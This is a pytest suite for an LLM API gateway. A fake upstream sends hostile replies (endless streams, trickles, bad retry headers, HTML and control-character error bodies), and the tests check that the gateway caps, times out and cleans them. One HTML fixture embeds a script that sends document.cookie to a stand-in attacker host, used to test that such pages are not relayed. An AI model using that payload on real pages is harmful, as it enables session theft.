"""Hostile upstreams through the real gateway under uvicorn: endless lines and bodies,
trickles, absurd retry headers, HTML error pages. The fake upstream is a real HTTP server
on 127.0.0.1; every endless reply is bounded by ``repeat_bytes`` so a regression fails
in bounded time instead of hanging the suite."""

from __future__ import annotations

import json
import time
import uuid
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import httpx
import openai
import orjson
import pytest
import sqlalchemy as sa

from gateway.app import create_app
from storage.models import InferenceRequest
from tests.conftest import ONE_TRY, Account, make_settings, register, set_plan
from tests.servers import FakeUpstream, GatewayServer, Reply, recording_events

MAX_EVENT = 64 * 1024
MAX_BODY = 256 * 1024
TOTAL = 2.0
MESSAGES = [{"role": "user", "content": "Say hello"}]
FIRST_EVENT = recording_events("openai_text.sse")[1]  # the first one with text


@pytest.fixture(scope="module")
def fake() -> Iterator[FakeUpstream]:
    """A real HTTP server on 127.0.0.1 (tests/providers' ``upstream`` is respx)."""
    server = FakeUpstream()
    yield server
    server.stop()


@pytest.fixture(scope="module")
def bounded(fake: FakeUpstream, tmp_path_factory: pytest.TempPathFactory
            ) -> Iterator[GatewayServer]:
    """A gateway whose one upstream has small caps and a short total_timeout."""
    providers = {"capped": {
        "kind": "openai", "base_url": fake.url + "/v1", "api_key": "sk-up",
        # Under total_timeout, so that a trickle's reads are first bounded by the read
        # timeout alone and only the last second by the deadline's timer (both paths).
        "models": {"capped-gpt": "gpt-4o-mini"}, "read_timeout": 1.0, **ONE_TRY,
        "total_timeout": TOTAL, "max_event_bytes": MAX_EVENT,
        "max_response_bytes": MAX_BODY}}
    tmp: Path = tmp_path_factory.mktemp("bounded")
    server = GatewayServer(create_app(make_settings(tmp, migrate_on_start=True,
                                                    providers=providers)))
    # A failed call counts its tokens with tiktoken, whose first use loads the encoding
    # (a second of CPU): load it now, or the first test times that instead of /health.
    server.state.tokens.text("warm up")
    yield server
    server.stop()


@pytest.fixture
def account(bounded: GatewayServer) -> Account:
    acct = register(bounded.url)
    set_plan(bounded, acct.user_id, "enterprise")
    return acct


def post(gw: GatewayServer, acct: Account, *, stream: bool, timeout: float = 30
         ) -> httpx.Response:
    return httpx.post(gw.url + "/v1/chat/completions", timeout=timeout,
                      headers={"Authorization": f"Bearer {acct.api_key}"},
                      json={"model": "capped-gpt", "messages": MESSAGES, "stream": stream})


def last_row(gw: GatewayServer, acct: Account) -> InferenceRequest:
    async def run() -> InferenceRequest:
        await gw.state.writer.flush()
        async with gw.state.sessions() as session:
            rows = await session.exec(
                sa.select(InferenceRequest)
                .where(InferenceRequest.user_id == uuid.UUID(acct.user_id))
                .order_by(InferenceRequest.created_at.desc()).limit(1))
            return rows.scalars().one()
    return gw.run(run())


def error_body(message: str, code: str, type_: str = "api_error") -> dict[str, Any]:
    return {"error": {"message": message, "type": type_, "param": None, "code": code}}


def error_event(message: str, code: str, type_: str = "api_error") -> bytes:
    return b"data: " + orjson.dumps(error_body(message, code, type_)) + b"\n\n"


TOO_LARGE_EVENT = (f"upstream 'capped' sent an event stream line or event over {MAX_EVENT} "
                   "bytes; raise its max_event_bytes if such events are expected")
TOO_LARGE_BODY = (f"upstream 'capped' sent a body over {MAX_BODY} bytes; raise its "
                  "max_response_bytes if such answers are expected")
TIMED_OUT = f"upstream 'capped' did not finish within its total_timeout ({TOTAL:g} s)"


def while_polling_health(gw: GatewayServer, fake: FakeUpstream, call: Any
                         ) -> tuple[httpx.Response, float, list[float]]:
    """Run ``call`` in a thread; from the moment the upstream has the request until the
    call returns, time ``/health`` (at most 200 polls). Returns (response, seconds, polls)."""
    polls: list[float] = []
    with ThreadPoolExecutor(1) as pool, httpx.Client(base_url=gw.url, timeout=10) as client:
        assert client.get("/health").status_code == 200  # connected before the clock starts
        t0 = time.monotonic()
        future = pool.submit(call)
        deadline = t0 + 10
        while not fake.received and not future.done() and time.monotonic() < deadline:
            time.sleep(0.001)
        while not future.done() and len(polls) < 200:
            start = time.monotonic()
            assert client.get("/health").status_code == 200
            polls.append(time.monotonic() - start)
        response = future.result(timeout=60)
        return response, time.monotonic() - t0, polls


def test_endless_line_ends_the_call_with_502_and_health_stays_fast(
        bounded: GatewayServer, account: Account, fake: FakeUpstream) -> None:
    # A line that never ends, as fast as the gateway reads it (16 MiB at most).
    fake.script(Reply(pieces=[b"data: {"], repeat=b"x" * 16384,
                          repeat_bytes=16 * 1024 * 1024))
    r, elapsed, polls = while_polling_health(
        bounded, fake, lambda: post(bounded, account, stream=True))
    assert r.status_code == 502
    assert r.json() == error_body(TOO_LARGE_EVENT, "upstream_response_too_large")
    assert elapsed < TOTAL  # the cap ended it, not the deadline
    assert max(polls, default=0) < 0.75  # ms when idle; the old code stalled it for seconds
    # The gateway hung up long before the 16 MiB went out.
    assert fake.repeated_bytes < 8 * 1024 * 1024
    row = last_row(bounded, account)
    assert (row.status, row.error) == ("failed", TOO_LARGE_EVENT)


def test_endless_line_mid_stream_is_one_error_event_then_done(
        bounded: GatewayServer, account: Account, fake: FakeUpstream) -> None:
    fake.script(Reply(pieces=[FIRST_EVENT, b"data: "], repeat=b"y" * 4096,
                          repeat_bytes=16 * 1024 * 1024))
    r = post(bounded, account, stream=True)
    assert r.status_code == 200
    events = r.content.split(b"\n\n")
    assert json.loads(events[1][6:])["choices"][0]["delta"]["content"] == "Bon"
    assert r.content.endswith(
        error_event(TOO_LARGE_EVENT, "upstream_response_too_large") + b"data: [DONE]\n\n")
    assert fake.repeated_bytes < 8 * 1024 * 1024
    row = last_row(bounded, account)
    assert (row.status, row.error, row.response) == ("failed", TOO_LARGE_EVENT, "Bon")


def test_many_data_lines_add_up_to_one_event(bounded: GatewayServer, account: Account,
                                             fake: FakeUpstream) -> None:
    # Each line is short; the event never ends, so its data lines add up.
    fake.script(Reply(pieces=[FIRST_EVENT], repeat=b"data: " + b"z" * 1000 + b"\n",
                          repeat_bytes=16 * 1024 * 1024))
    r = post(bounded, account, stream=True)
    assert r.content.endswith(
        error_event(TOO_LARGE_EVENT, "upstream_response_too_large") + b"data: [DONE]\n\n")


def test_endless_body_ends_the_call_with_502(bounded: GatewayServer, account: Account,
                                             fake: FakeUpstream) -> None:
    fake.script(Reply(headers={"content-type": "application/json"},
                          pieces=[b'{"choices": [{"message": {"content": "'],
                          repeat=b"a" * 16384, repeat_bytes=16 * 1024 * 1024))
    r, elapsed, polls = while_polling_health(
        bounded, fake, lambda: post(bounded, account, stream=False))
    assert r.status_code == 502
    assert r.json() == error_body(TOO_LARGE_BODY, "upstream_response_too_large")
    assert elapsed < TOTAL
    assert max(polls, default=0) < 0.75  # ms when idle; the old code stalled it for seconds
    assert fake.repeated_bytes < 8 * 1024 * 1024
    assert last_row(bounded, account).status == "failed"


# Keep-alive comments every 50 ms: the read timeout (1 s) never fires; only the total
# deadline ends the call. At most 100 of them (5 s), so a regression ends too.
PING = b": keep-alive\n\n"


def test_trickle_before_the_first_byte_is_a_504(bounded: GatewayServer, account: Account,
                                                fake: FakeUpstream) -> None:
    fake.script(Reply(repeat=PING, delay=0.05, repeat_bytes=100 * len(PING)))
    t0 = time.monotonic()
    r = post(bounded, account, stream=True)
    elapsed = time.monotonic() - t0
    assert r.status_code == 504
    assert r.json() == error_body(TIMED_OUT, "upstream_timeout", "timeout_error")
    assert TOTAL <= elapsed < TOTAL + 1.5
    assert last_row(bounded, account).status == "failed"


def test_trickle_mid_stream_ends_with_the_timeout_event(
        bounded: GatewayServer, account: Account, fake: FakeUpstream) -> None:
    fake.script(Reply(pieces=[FIRST_EVENT], repeat=PING, delay=0.05,
                          repeat_bytes=100 * len(PING)))
    t0 = time.monotonic()
    r = post(bounded, account, stream=True)
    elapsed = time.monotonic() - t0
    assert r.status_code == 200
    assert r.content.endswith(error_event(TIMED_OUT, "upstream_timeout", "timeout_error")
                              + b"data: [DONE]\n\n")
    assert TOTAL <= elapsed < TOTAL + 1.5
    row = last_row(bounded, account)
    assert (row.status, row.error, row.response) == ("failed", TIMED_OUT, "Bon")


def test_trickled_body_is_a_504(bounded: GatewayServer, account: Account,
                                fake: FakeUpstream) -> None:
    fake.script(Reply(headers={"content-type": "application/json"}, pieces=[b"{"],
                          repeat=b" ", delay=0.05, repeat_bytes=100))
    r = post(bounded, account, stream=False)
    assert r.status_code == 504
    assert r.json() == error_body(TIMED_OUT, "upstream_timeout", "timeout_error")


# Upstream retry hints → what the client is told (None: no retry headers at all).
RETRY_CASES = [
    ({"retry-after-ms": "NaN"}, None),
    ({"retry-after-ms": "NaN", "retry-after": "2"}, ("2", "2000")),
    ({"retry-after": "-5"}, ("1", "0")),
    ({"retry-after-ms": "-5"}, ("1", "0")),
    ({"retry-after-ms": "inf"}, ("3600", "3600000")),
    ({"retry-after": "1e999"}, ("3600", "3600000")),
    ({"retry-after": "99999999999"}, ("3600", "3600000")),
    ({"retry-after": "Mon, 99 Foo 2024 25:61:61 GMT"}, None),
    ({"retry-after-ms": "1500.4"}, ("2", "1501")),  # rounded up: never sooner than said
]
ERROR_429 = (Path(__file__).parent.parent / "fixtures/upstream/openai_error_429.json").read_bytes()
RATE_LIMITED = "upstream 'capped': " + json.loads(ERROR_429)["error"]["message"]


@pytest.mark.parametrize(("sent", "expected"), RETRY_CASES,
                         ids=[" ".join(f"{k}={v}" for k, v in c[0].items()) for c in RETRY_CASES])
@pytest.mark.parametrize("stream", [False, True], ids=["plain", "stream"])
def test_upstream_retry_headers_are_clamped(bounded: GatewayServer, account: Account,
                                            fake: FakeUpstream, sent: dict[str, str],
                                            expected: tuple[str, str] | None,
                                            stream: bool) -> None:
    fake.script(Reply.json(429, ERROR_429, sent))
    r = post(bounded, account, stream=stream)
    assert r.status_code == 429
    assert r.json() == error_body(RATE_LIMITED, "upstream_rate_limited", "rate_limit_error")
    got = (r.headers.get("retry-after"), r.headers.get("retry-after-ms"))
    assert got == (expected or (None, None))

    client = openai.OpenAI(base_url=bounded.url + "/v1", api_key=account.api_key,
                           max_retries=0, timeout=20)
    with pytest.raises(openai.RateLimitError) as err:
        out = client.chat.completions.create(model="capped-gpt", messages=MESSAGES,
                                             stream=stream)
        list(out) if stream else None
    headers = err.value.response.headers
    assert (headers.get("retry-after"), headers.get("retry-after-ms")) == got
    assert err.value.code == "upstream_rate_limited"


HTML = (b"<html><head><script>fetch('https://evil.example/?c='+document.cookie)</script>"
        b"</head><body><h1>503 Service Temporarily Unavailable</h1>\x1b[2J</body></html>")


@pytest.mark.parametrize("stream", [False, True], ids=["plain", "stream"])
def test_html_error_page_is_not_relayed(bounded: GatewayServer, account: Account,
                                        fake: FakeUpstream, stream: bool) -> None:
    fake.script(Reply(status=503, headers={"content-type": "text/html"}, pieces=[HTML]))
    r = post(bounded, account, stream=stream)
    assert r.status_code == 503
    message = "upstream 'capped': answered HTTP 503 with a non-JSON body"
    assert r.json() == error_body(message, "upstream_unavailable")
    assert last_row(bounded, account).error == message


@pytest.mark.parametrize("stream", [False, True], ids=["plain", "stream"])
def test_json_error_message_is_cut_and_cleaned(bounded: GatewayServer, account: Account,
                                               fake: FakeUpstream, stream: bool) -> None:
    long = "model \x1b[31moverloaded\x1b[0m,\r\n\tretry\u202e later " + "x" * 2000
    fake.script(Reply.json(500, orjson.dumps(
        {"error": {"message": long, "type": "server_error", "param": "p\x00aram"}})))
    r = post(bounded, account, stream=stream)
    assert r.status_code == 503
    error = r.json()["error"]
    prefix = "upstream 'capped': model [31moverloaded [0m, retry later xxx"
    assert error["message"].startswith(prefix)
    assert error["message"].endswith("x…")
    assert len(error["message"]) == len("upstream 'capped': ") + 300
    assert error["param"] == "p aram"
